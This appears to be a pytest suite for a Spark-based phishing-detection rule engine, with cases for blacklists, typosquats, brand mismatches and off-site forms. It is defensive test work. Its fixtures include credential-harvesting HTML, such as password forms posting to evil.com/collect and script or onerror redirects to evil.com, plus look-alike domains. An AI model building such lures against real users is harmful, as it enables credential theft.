"""Rule by rule: a hit and a miss for each, evaluated together in one job."""

from __future__ import annotations

import pytest
from pyspark.sql import functions as F

from tidegate.functions import urls as U
from tidegate.operators import matching as M
from tidegate.operators import rules as R
from tidegate.operators import rulestore as K

PASSWORD = '<html><body><h1>Members</h1><form method="post" action="/enter"><p>Who <input name="who"></p><p>Word <input type="password" name="word"></p></form></body></html>'
CARD = '<html><body><form action="/order/77"><ul><li><input name="cvv2" size="4"></li><li><input id="cardholder"></li></ul></form></body></html>'
PLAIN = '<html><head><title>Garden notes</title></head><body><h2>Beans</h2><p>Sow in May.</p></body></html>'
PAYPAL = '<html><head><title>Your PayPal receipt</title></head><body><form action="/next"><input name="k" type="password"></form></body></html>'
GOOGLE = "<html><head><title>Google Account Login</title></head><body></body></html>"
FIELD = '<html><body><form><input type="text" name="{}"></form></body></html>'
HOT = '<form><input type="password" name="password"></form>'
AWAY = '<html><body><form action="{}" method="post"><input type="{}" name="{}"></form></body></html>'


def refresh(url: str, field: str = HOT) -> str:
    return f'<html><head><meta http-equiv="refresh" content="0; url={url}"></head><body>{field}</body></html>'


CASES = [
    # (rule, url, html, score)
    ("domain_blacklist", "https://evil.com/x", None, 1),
    ("domain_blacklist", "https://login.evil.com/auth", None, 1),
    ("domain_blacklist", "https://www.evil.com/auth", None, 1),
    ("domain_blacklist", "https://notevil.com/auth", None, 0),
    ("domain_blacklist", "https://cleared.com/", None, 0),
    ("domain_blacklist", "https://9.1.2.3/", None, 1),
    ("unencrypted_connection", "http://example.com/page", PLAIN, 1),
    ("unencrypted_connection", "https://example.com/login", PASSWORD, 0),
    ("unencrypted_connection", "http://localhost:3000/", PLAIN, 0),
    ("unencrypted_connection", "http://127.0.0.1/api", PLAIN, 0),
    ("unencrypted_connection", "http://[::1]:8080/", PLAIN, 0),
    ("unencrypted_connection", "ftp://example.com/", None, 1),
    ("sensitive_fields", "https://example.com/login", PASSWORD, 1),
    ("sensitive_fields", "https://shop.com/pay", CARD, 1),
    ("sensitive_fields", "https://example.com", PLAIN, 0),
    ("sensitive_fields", "https://example.com/s", FIELD.format("search"), 0),
    ("sensitive_fields", "https://example.com", FIELD.format("api_key"), 1),
    ("sensitive_fields", "https://example.com", FIELD.format("otp"), 1),
    ("sensitive_fields", "https://example.com", FIELD.format("option"), 0),
    ("sensitive_fields", "https://example.com/p", '<html><body><label>P:</label><input type="password"/></body></html>', 1),
    ("sensitive_fields", "https://example.com/c", "<body><!-- <input type=password> --><script>'<input type=password>'</script></body>", 0),
    ("brand_domain_mismatch", "https://paypal-login.evil.org", PAYPAL, 1),
    ("brand_domain_mismatch", "https://www.paypal.com/signin", PAYPAL, 0),
    ("brand_domain_mismatch", "https://example.com", PLAIN, 0),
    ("brand_domain_mismatch", "https://google-accounts.fake.com", GOOGLE, 1),
    ("brand_domain_mismatch", "https://example.com", None, 0),
    ("brand_domain_mismatch", "https://example.com", "<title>Our groups</title>", 1),
    ("unexpected_redirect", "https://bank.com/login", refresh("https://evil.com/steal"), 1),
    ("unexpected_redirect", "https://bank.com/login", f'<body>{HOT}<script>window.location.href = "https://evil.com/s";</script></body>', 1),
    ("unexpected_redirect", "https://bank.com/login", f"<body>{HOT}<script>location.replace('//evil.com/s')</script></body>", 1),
    ("unexpected_redirect", "https://bank.com/login", f"<body>{HOT}<img src=x onerror=\"window.location = 'https://evil.com/s'\"></body>", 1),
    ("unexpected_redirect", "https://example.com", refresh("https://other.com", "<p>Hello</p>"), 0),
    ("unexpected_redirect", "https://bank.com/login", refresh("https://bank.com/dashboard"), 0),
    ("unexpected_redirect", "https://bank.com/login", refresh("https://www.bank.com/dashboard"), 0),
    ("external_form_action", "https://bank.com/login", AWAY.format("https://evil.com/collect", "password", "p"), 1),
    ("external_form_action", "https://bank.com/login", AWAY.format("/collect", "password", "p"), 0),
    ("external_form_action", "https://bank.com/login", AWAY.format("https://evil.com/s", "text", "q"), 0),
    ("external_form_action", "https://bank.com/login", AWAY.format("javascript:void(0)", "password", "p"), 0),
    ("external_form_action", "https://bank.com/login", None, 0),
    ("external_form_action", "https://bank.com/n", '<form action="https://evil.com"><form action="/x"><input type="password"></form></form>', 1),
    ("external_form_action", "https://bank.com/o", '<form action="https://evil.com"><input name=q></form><input type="password">', 0),
    ("typosquatting", "https://paypa1.com", None, 1),
    ("typosquatting", "https://payal.com", None, 1),
    ("typosquatting", "https://papyal.com", None, 1),
    ("typosquatting", "https://pаypal.com", None, 1),
    ("typosquatting", "https://paypal.com", None, 0),
    ("typosquatting", "https://completely-different-xyz.com", None, 0),
    ("typosquatting", "https://192.168.1.1", None, 0),
    ("typosquatting", "https://22e881b88ed6.cdn4.forter.com", None, 0),
    ("typosquatting", "https://open.spotify.com", None, 0),
    ("typosquatting", "https://icloud.com", None, 1),
    ("ip_based_url", "https://192.168.1.100/admin", None, 1),
    ("ip_based_url", "https://203.0.113.5/", None, 1),
    ("ip_based_url", "https://[2001:db8::1]/", None, 1),
    ("ip_based_url", "https://example.com/", None, 0),
    ("custom_blacklist", "https://blocked-site.com/x", None, 1),
    ("custom_blacklist", "https://www.sub.blocked-site.com/x", None, 1),
    ("custom_blacklist", "https://example.com/bad-path", None, 1),
    ("custom_blacklist", "https://example.com/login/?next=%2Fhome", None, 1),
    ("custom_blacklist", "https://example.org/login?next=%2Fhome", None, 1),
    ("custom_blacklist", "https://example.org/login?next=%2Fdashboard", None, 0),
    ("custom_blacklist", "https://example.com/noscheme", None, 0),
    ("custom_blacklist", "https://other.com/", None, 0),
]
FEED = [("evil.com", "URLhaus", True), ("evil.com", "PhishTank", True), ("cleared.com", "URLhaus", False), ("2.3", "URLhaus", True)]
BLOCKS = [
    "blocked-site.com", "https://example.com/bad-path", "https://example.com/login/",
    "https://example.org/login?next=%2fhome", "example.com/noscheme",
]


def traffic(spark, rows):
    data = [(i, url, "GET", {"Content-Type": "text/html"} if html else {}, html or "") for i, (url, html) in enumerate(rows)]
    return spark.createDataFrame(data, "request_id long, url string, method string, req_headers map<string,string>, body string")


def feed_of(spark, rows=FEED):
    return spark.createDataFrame(rows, "domain string, source string, listed boolean")


def blocks_of(spark, rows=BLOCKS):
    return spark.createDataFrame([(r,) for r in rows], "entry string")


@pytest.fixture(scope="module")
def verdicts(spark):
    """Per rule, evaluated alone: case number to (score, explanation)."""
    out = {}
    for rule in R.BUILT_IN:
        mine = [(i, c) for i, c in enumerate(CASES) if c[0] == rule]
        rows = traffic(spark, [(c[1], c[2]) for _, c in mine])
        only = {r: r == rule for r in R.BUILT_IN}
        scored = R.rule_results(R.evaluate(rows, feed_of(spark), blocks_of(spark), only)).filter(F.col("rule_id") == rule)
        for r in scored.collect():
            out[mine[r["request_id"]][0]] = (r["score"], r["explanation"])
    return out


@pytest.mark.parametrize("number", range(len(CASES)))
def test_rule_case(verdicts, number):
    assert verdicts[number][0] == CASES[number][3], (CASES[number], verdicts[number])


def test_explanations(verdicts):
    texts = {CASES[i][1]: v[1] for i, v in verdicts.items() if v[0] == 1}
    assert texts["https://login.evil.com/auth"] == "Domain 'evil.com' found in PhishTank threat database"
    assert texts["https://9.1.2.3/"] == "Domain '2.3' found in URLhaus threat database"
    assert "uses confusable characters to impersonate 'paypal.com'" in texts["https://paypa1.com"]
    assert texts["https://payal.com"].endswith("appears to be a typosquat of 'paypal.com'")


def evaluated(spark, url, html, enabled=None, book=None):
    rows = R.evaluate(traffic(spark, [(url, html)]), feed_of(spark), blocks_of(spark), enabled, book=book)
    return rows.collect()[0]


def test_clean_page_is_allowed(spark):
    row = evaluated(spark, "https://example.com", PLAIN)
    assert (row["decision"], row["risk_score"], row["hard_block_triggered"]) == ("allow", 0.0, False)
    assert [r["rule_id"] for r in row["rule_results"]] == list(R.BUILT_IN)


def test_hard_block_skips_the_rest(spark):
    row = evaluated(spark, "http://example.com/login", PASSWORD)
    assert (row["decision"], row["risk_score"], row["stage_b_required"]) == ("block", 1.0, False)
    assert [r["score"] for r in row["rule_results"]] == [0.0, 1.0] + [None] * 7
    assert row["rule_results"][-1]["explanation"] == R.SKIPPED


def test_disabled_rules_are_absent_but_listed_after_a_block(spark):
    off = {"unencrypted_connection": False, "ip_based_url": False}
    row = evaluated(spark, "http://example.com", PLAIN, off)
    assert row["decision"] == "allow" and len(row["rule_results"]) == 7
    blocked = evaluated(spark, "https://evil.com", PLAIN, off)
    assert [r["rule_id"] for r in blocked["rule_results"]] == list(R.BUILT_IN)
    assert blocked["rule_results"][1]["score"] is None


@pytest.mark.parametrize(
    "url, html, score",
    [
        ("https://bank.io/l", PASSWORD, 0.129),
        ("https://pp.bank.io/l", PAYPAL, 0.2258),
        ("https://bank.io/l", AWAY.format("https://evil.com/c", "password", "p"), 0.1935),
        ("https://203.0.113.5/", PLAIN, 0.0323),
    ],
)
def test_scores(spark, url, html, score):
    assert evaluated(spark, url, html)["risk_score"] == pytest.approx(score, abs=1e-9)


def test_warn_needs_disabled_rules(spark):
    soft = {r: r in ("sensitive_fields", "brand_domain_mismatch", "unexpected_redirect", "external_form_action") for r in R.BUILT_IN}
    row = evaluated(spark, "https://pp.bank.io/l", PAYPAL, soft)
    assert (row["decision"], row["stage_b_required"]) == ("warn", True)
    assert row["risk_score"] == pytest.approx(0.6364, abs=1e-9)
    assert evaluated(spark, "https://b.io", PLAIN, {r: False for r in R.BUILT_IN})["risk_score"] == 0.0


def test_contextual_rule_runs_only_where_ambiguous(spark):
    def hit():
        return F.lit(1.0), F.lit("session looks odd")

    book = R.RuleBook().register_rule("velocity", "Session velocity", 0.3, False, hit, rule_type="contextual")
    soft = {r: r in ("sensitive_fields", "brand_domain_mismatch") for r in R.BUILT_IN}
    odd = evaluated(spark, "https://b.io/l", PASSWORD, soft, book)
    assert [r["rule_id"] for r in odd["rule_results"]][-1] == "velocity"
    assert odd["risk_score"] == pytest.approx((0.2 + 0.3) / 0.65, abs=1e-4)
    calm = evaluated(spark, "https://b.io/l", PLAIN, soft, book)
    assert [r["rule_id"] for r in calm["rule_results"]] == ["sensitive_fields", "brand_domain_mismatch"]
    with pytest.raises(ValueError):
        book.register_rule("velocity", "", 0.1, False, hit)


def test_fields_behind_half_a_megabyte_count(spark):
    late = "<p>" + "é" * 256_000 + '</p><input type="password">'
    assert evaluated(spark, "https://b.io", late)["risk_score"] > 0.0


def test_strict_false_spares_official_labels(spark):
    rows = traffic(spark, [("https://icloud.com", None), ("https://paypa1.com", None)])
    found = R.evaluate(rows, strict=False).orderBy("request_id").collect()
    assert [r["hard_block_triggered"] for r in found] == [False, True]


def test_enablement(spark):
    table = K.registry_rules(spark).withColumn("is_enabled", F.col("rule_code") != "typosquatting")
    enabled = R.enablement_map(table)
    assert enabled["typosquatting"] is False and sum(enabled.values()) == 8
    assert R.enablement_map(None) == {}
    assert R.enablement_map(spark.createDataFrame([(1,)], "other int")) == {}


def test_seen_rules_are_registered_as_the_registry_has_them(spark):
    seen = spark.createDataFrame(
        [("sensitive_fields", "deterministic", False, "a field"), ("of_my_own", "contextual", True, "x" * 300)],
        "rule_id string, rule_type string, hard_block boolean, explanation string",
    )
    got = {r["rule_code"]: r for r in K.rules_from_results(seen).collect()}
    known, own = got["sensitive_fields"], got["of_my_own"]
    assert (known["weight"], known["compute_class"], known["description"]) == (0.20, "cheap", "Sensitive Fields Present")
    assert (own["weight"], own["description"], own["is_hard_block"]) == (0.0, "x" * 255, True)


def test_whole_suffix_list(spark):
    """Hosts below suffixes that only a whole list knows, with wildcards and exceptions."""
    listed = ["com", "co.ke", "ke", "pages.dev", "dev", "*.ck", "!www.ck", "co.uk", "uk"]
    suffixes = spark.createDataFrame([(s,) for s in listed], "suffix string")
    hosts = ["paypa1.co.ke", "paypa1.pages.dev", "paypa1.any.ck", "www.paypa1.com", "paypal.com", "quiet-meadow.co.uk", "co.ke"]
    rows = spark.createDataFrame([(h,) for h in hosts], "host string")
    # A bare suffix is left out here: this short list gives brand domains below other suffixes such labels.
    got = {r.host: r for r in R.host_signals(rows.filter("host <> 'co.ke'"), suffixes=suffixes).collect()}
    assert {h for h, r in got.items() if r.typosquat_hit} == set(hosts[:4])
    assert {h for h, r in got.items() if r.official} == {"paypal.com"}
    assert got["paypa1.co.ke"].typosquat_hit.official == "paypal.com"
    labels = {r.name: r.label for r in M.labels_by_list(rows.withColumnRenamed("host", "name"), suffixes).collect()}
    want = {r.h: r.l for r in rows.select(F.col("host").alias("h"), U.sld_label(F.col("host"), listed).alias("l")).collect()}
    assert labels == want
    traffic = spark.createDataFrame([(1, "https://paypa1.co.ke/", "GET", {"Content-Type": "text/html"}, "<p>x</p>")],
                                    "request_id long, url string, method string, req_headers map<string,string>, body string")
    hit = {r.rule_id: r.triggered for r in R.rule_results(R.evaluate(traffic, suffixes=suffixes)).collect()}
    assert hit["typosquatting"]


def test_suffixes_beyond_the_common_ones_by_default(spark, tmp_path):
    """Look-alikes below country and hosting suffixes are hits in the rule, the join and a stream."""
    from tidegate.sources import dims
    from tidegate.streaming import jobs as J

    if dims.suffix_list().version == "common":
        pytest.skip("this machine has no suffix list file")
    hosts = ["paypa1.co.ke", "paypa1.pages.dev", "paypa1.com", "paypal.com"]
    rows = spark.createDataFrame([(h,) for h in hosts], "host string")
    assert {r.host for r in M.typosquat_hits(rows, dims.brand_domains(spark)).collect()} == set(hosts[:3])
    traffic = spark.createDataFrame(
        [(i, f"https://{h}/", "GET", {"Content-Type": "text/html"}, "<p>x</p>") for i, h in enumerate(hosts)],
        "request_id long, url string, method string, req_headers map<string,string>, body string",
    )
    hit = {r.request_id for r in R.rule_results(R.evaluate(traffic)).filter("rule_id = 'typosquatting' and triggered").collect()}
    assert hit == {0, 1, 2}
    traffic.write.json(str(tmp_path / "in"))
    out = str(tmp_path / "out")
    J.write_stream(J.read_traffic_stream(spark, str(tmp_path / "in")), out, str(tmp_path / "check")).awaitTermination()
    lines = J.read_audit(spark, out, "rules_analysis").filter("rule_code = 'typosquatting' and rule_score > 0")
    assert {r.event_id for r in lines.collect()} == {0, 1, 2}
